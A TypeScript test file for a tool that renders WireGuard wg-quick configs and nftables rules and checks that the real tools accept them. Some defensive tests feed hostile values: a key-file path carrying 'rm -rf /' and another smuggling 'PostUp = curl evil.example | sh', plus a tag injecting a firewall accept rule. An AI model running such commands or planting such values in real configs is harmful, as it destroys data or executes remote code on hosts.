/**
 * Rendered wg-quick configs and nftables rules: their exact content for the
 * fixture, and that the real tools accept them: `wg-quick strip` and
 * `wg setconf` (on a wireguard-go interface in a namespace of our own), and
 * `nft -c -f` in a fresh network namespace. The tool checks are skipped,
 * with the reason printed, where the tools, root or /dev/net/tun are missing.
 */
import t from "tap";
import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { compile } from "../../../src/engine.js";
import { MeshTopology, planMesh, type MeshPlan } from "../../../src/runtime/mesh/plan.js";
import { renderNft } from "../../../src/runtime/mesh/render-nft.js";
import { defaultRenderOptions, interfaceName, renderOptionsProblem, renderWgQuick } from "../../../src/runtime/mesh/render-wg.js";
import { writePlan } from "../../../src/runtime/mesh/write-plan.js";
import { MeshLab, netnsSupport, onPath } from "../../support/netns.js";
import { fixtureInventory, keyFor, MESH_POLICY, node, PLAN_TIME } from "../../support/mesh-fixture.js";

const engine = compile(MESH_POLICY, { file: "lab.policy" });
const p = planMesh(engine, fixtureInventory(), { time: PLAN_TIME }) as MeshPlan;
const topo = MeshTopology.of(p);
const opts = defaultRenderOptions(p);
const at = (id: string) => p.nodes.findIndex((n) => n.id === id);
const addr = (id: string) => p.nodes[at(id)]!.address;

t.test("the wg-quick config of the scheduler", async (t) => {
  t.same(opts, { interface: "lab", keyFile: "/etc/wireguard/lab.key" });
  const text = renderWgQuick(p, topo, at("s1"), opts);
  const body = text.split("\n").filter((l) => !l.startsWith("# swarm-policy") && !l.startsWith("# policy version"));
  const peer = (id: string, endpoint?: string) => ["", "[Peer]", `# ${id}`, `PublicKey = ${keyFor(id).publicKey}`, `AllowedIPs = ${addr(id)}/32`, ...(endpoint ? [`Endpoint = ${endpoint}`] : []), "PersistentKeepalive = 25"];
  t.same(body, [
    "[Interface]",
    "Address = 100.64.0.10/10",
    "ListenPort = 51820",
    "PostUp = wg set %i private-key /etc/wireguard/lab.key",
    ...peer("d1"),
    ...peer("g1", "198.18.0.13:51820"),
    ...peer("w1", "198.18.0.10:51820"),
    ...peer("w2", "198.18.0.11:51820"),
    "",
  ]);
  t.notMatch(text, /PrivateKey/, "the plan never holds a private key");
});

t.test("AllowedIPs is one host address, never a range", async (t) => {
  for (const n of p.nodes) {
    for (const line of renderWgQuick(p, topo, n.index, opts).split("\n").filter((l) => l.startsWith("AllowedIPs"))) {
      t.match(line, /^AllowedIPs = 100\.\d+\.\d+\.\d+\/32$/);
    }
  }
  const v6 = planMesh(compile('mesh "v6" {\n  network "fd00:5157::/48"\n  connect "a" <-> "b"\n}\n'), [node("n1", ["a"]), node("n2", ["b"])], { time: PLAN_TIME }) as MeshPlan;
  const text = renderWgQuick(v6, MeshTopology.of(v6), 0, defaultRenderOptions(v6));
  t.match(text, /\nAddress = fd00:5157:[0-9a-f:]+\/48\n/);
  t.match(text, /\nAllowedIPs = fd00:5157:[0-9a-f:]+\/128\n/);
  t.notMatch(text, /PersistentKeepalive|ListenPort/, "neither is set by this mesh");
});

t.test("the nftables rules of the scheduler", async (t) => {
  const text = renderNft(p, topo, at("s1"), opts);
  t.match(text, "table inet swarm_policy_lab\ndelete table inet swarm_policy_lab\ntable inet swarm_policy_lab {");
  t.match(text, '\t\tiifname != "lab" accept\n');
  t.match(text, `\tset flow_0 {\n\t\ttype ipv4_addr\n\t\telements = { ${addr("w1")},\n\t\t\t     ${addr("w2")} }\n\t}`);
  t.match(text, "\t\tip saddr @flow_0 tcp dport { 7000, 7001 } accept\n\t\tip saddr @flow_0 udp dport { 7000, 7001 } accept\n");
  t.match(text, `\tset flow_1 {\n\t\ttype ipv4_addr\n\t\telements = { ${addr("g1")} }\n\t}`);
  t.match(text, "\t\tip saddr @flow_1 accept\n");
  t.match(text, "\t\tip saddr @peers icmp type echo-request accept\n");
  t.match(text, /\t\tcounter drop\n\t}\n}\n$/);
  const worker = renderNft(p, topo, at("w1"), opts);
  t.notMatch(worker, /flow_/, "nothing may open a connection to a worker");
  t.match(worker, "counter drop");
});

t.test("a connect tag with a newline cannot add lines to the rules", async (t) => {
  // A policy string may carry `\n`; an inventory tag anything. The rule's comment must stay one comment.
  const evil = "gateway\n\t\taccept\n#";
  const e = compile(MESH_POLICY.replace('connect "scheduler" <-> "gateway"', `connect "scheduler" <-> ${JSON.stringify(evil)}`), { file: "lab.policy" });
  const inv = fixtureInventory().map((n) => (n.id === "g1" ? { ...n, tags: ["gateway", evil] } : n));
  const q = planMesh(e, inv, { time: PLAN_TIME }) as MeshPlan;
  const text = renderNft(q, MeshTopology.of(q), q.nodes.findIndex((n) => n.id === "s1"), opts);
  t.notMatch(text, /^\t\taccept$/m, "no injected rule");
  t.match(text, '\t\t# "scheduler" <-> "gateway\\n\\t\\taccept\\n#" ("gateway\\n\\t\\taccept\\n#" to "scheduler")\n\t\tip saddr @flow_1 accept\n');
});

t.test("a re-plan that changes nothing for a node renders the same bytes", async (t) => {
  // Config management deploys on a change of bytes, and applying a config restarts the tunnels:
  // planning again an hour later (mesh plan without --time reads the clock) must not touch a file.
  const later = planMesh(engine, fixtureInventory(), { time: PLAN_TIME + 3_600_000 }) as MeshPlan;
  t.not(later.time, p.time);
  const laterTopo = MeshTopology.of(later);
  for (const n of p.nodes) {
    t.equal(renderWgQuick(later, laterTopo, n.index, opts), renderWgQuick(p, topo, n.index, opts), `${n.id}: wg-quick config`);
    t.equal(renderNft(later, laterTopo, n.index, opts), renderNft(p, topo, n.index, opts), `${n.id}: nftables rules`);
  }
});

t.test("interface names and key file paths", async (t) => {
  t.equal(interfaceName("swarm"), "swarm");
  t.equal(interfaceName("prod mesh/eu-west-1!"), "prodmesheu-west");
  t.equal(interfaceName("ünïcødé"), "ncd");
  t.equal(interfaceName("…"), "wg0");
  t.equal(renderOptionsProblem({ interface: "wg-prod", keyFile: "/etc/wireguard/k.key" }), null);
  t.match(renderOptionsProblem({ interface: "a-very-long-interface", keyFile: "/k" }), /must be 1-15/);
  t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/k; rm -rf /" }), /absolute path/);
  t.match(renderOptionsProblem({ interface: "wg0", keyFile: "relative.key" }), /absolute path/);
  t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/etc/../k" }), /absolute path/);
});

t.test("the library refuses options the CLI refuses: PostUp runs the key file path in a shell", async (t) => {
  const evil = { interface: "lab", keyFile: "/k\nPostUp = curl evil.example | sh" };
  t.throws(() => renderWgQuick(p, topo, at("s1"), evil), /absolute path/);
  t.throws(() => renderWgQuick(p, topo, at("s1"), { interface: "../../x", keyFile: "/k" }), /must be 1-15/);
  const dir = mkdtempSync(path.join(os.tmpdir(), "sp-render-opts-"));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  await t.rejects(writePlan(p, dir, { interface: "../../escape", keyFile: "/k" }), /must be 1-15/);
  t.same(readdirSync(dir), [], "nothing written");
});

const support = netnsSupport();
const noLab = support.ok ? false : `WireGuard lab unavailable: ${support.reason}`;
if (noLab) t.comment(`skipping the real-tool checks: ${support.reason}`);

t.test("`nft -c -f` accepts every node's rules (fresh namespace)", { skip: noLab }, async (t) => {
  const dir = mkdtempSync(path.join(os.tmpdir(), "sp-nft-"));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  for (const n of p.nodes) {
    const file = path.join(dir, `${n.id}.nft`);
    writeFileSync(file, renderNft(p, topo, n.index, opts));
    const out = execFileSync("unshare", ["--net", "nft", "-c", "-f", file], { stdio: "pipe" });
    t.equal(out.toString(), "", `${n.id}: nft -c accepts it`);
  }
});

t.test("`wg-quick strip` + `wg setconf` accept every node's config", { skip: noLab || (onPath("wg-quick") ? false : "wg-quick is missing") }, async (t) => {
  const lab = await MeshLab.create(["cfg"]);
  t.teardown(() => lab.cleanup());
  await lab.startWireguard("cfg");
  const iface = lab.node("cfg").iface;
  for (const n of p.nodes) {
    const file = path.join(lab.workDir, `${opts.interface}.conf`);
    writeFileSync(file, renderWgQuick(p, topo, n.index, opts), { mode: 0o600 });
    const stripped = execFileSync("wg-quick", ["strip", file], { encoding: "utf8", stdio: "pipe" });
    const strippedFile = path.join(lab.workDir, "stripped.conf");
    writeFileSync(strippedFile, stripped, { mode: 0o600 });
    execFileSync("wg", ["setconf", iface, strippedFile], { stdio: "pipe" });
    const peers = execFileSync("wg", ["show", iface, "allowed-ips"], { encoding: "utf8" })
      .trim()
      .split("\n")
      .map((l) => l.split("\t"));
    const want = topo.peersOf(n.index).map((j) => [p.nodes[j]!.publicKey, `${p.nodes[j]!.address}/32`]);
    t.same(peers.sort(), want.sort(), `${n.id}: the interface has exactly the planned peers and AllowedIPs`);
    t.equal(execFileSync("wg", ["show", iface, "listen-port"], { encoding: "utf8" }).trim(), "51820");
  }
});

t.test("a re-plan applied with `wg syncconf` as docs/mesh.md says keeps the node's private key", { skip: noLab || (onPath("bash") ? false : "bash is missing") }, async (t) => {
  const lab = await MeshLab.create(["cfg"]);
  t.teardown(() => lab.cleanup());
  await lab.startWireguard("cfg");
  const iface = lab.node("cfg").iface;
  const keyFile = path.join(lab.workDir, "s1.key");
  writeFileSync(keyFile, `${keyFor("s1").privateText}\n`, { mode: 0o600 });
  const conf = path.join(lab.workDir, `${opts.interface}.conf`);
  writeFileSync(conf, renderWgQuick(p, topo, at("s1"), opts), { mode: 0o600 });
  await lab.applyWgQuick("cfg", conf, { privateKeyFile: keyFile });
  const wg = (...args: string[]) => execFileSync("wg", ["show", iface, ...args], { encoding: "utf8" }).trim();
  t.equal(wg("public-key"), keyFor("s1").publicKey);

  // w2 leaves the inventory: s1's new config has one peer less.
  const q = planMesh(engine, fixtureInventory().filter((n) => n.id !== "w2"), { time: PLAN_TIME }) as MeshPlan;
  writeFileSync(conf, renderWgQuick(q, MeshTopology.of(q), q.nodes.findIndex((n) => n.id === "s1"), opts), { mode: 0o600 });
  const bash = (script: string) => execFileSync("bash", ["-c", script, "bash", iface, conf, keyFile], { stdio: "pipe" });
  // The trap: the file has no PrivateKey, and syncconf (like setconf) sets the key to none.
  bash('wg syncconf "$1" <(wg-quick strip "$2")');
  t.equal(wg("private-key"), "(none)", "a bare syncconf leaves the interface without a key");
  execFileSync("wg", ["set", iface, "private-key", keyFile]);
  // The documented form: the key file is read into the same configuration.
  bash('wg syncconf "$1" <(wg-quick strip "$2"; printf \'[Interface]\\nPrivateKey = %s\\n\' "$(cat "$3")")');
  t.equal(wg("public-key"), keyFor("s1").publicKey, "the key is kept");
  const want = MeshTopology.of(q).peersOf(q.nodes.findIndex((n) => n.id === "s1")).map((j) => q.nodes[j]!.publicKey);
  t.same(wg("peers").split("\n").sort(), want.sort(), "the peers are the re-plan's: w2 is gone");
  t.equal(wg("listen-port"), "51820");
});
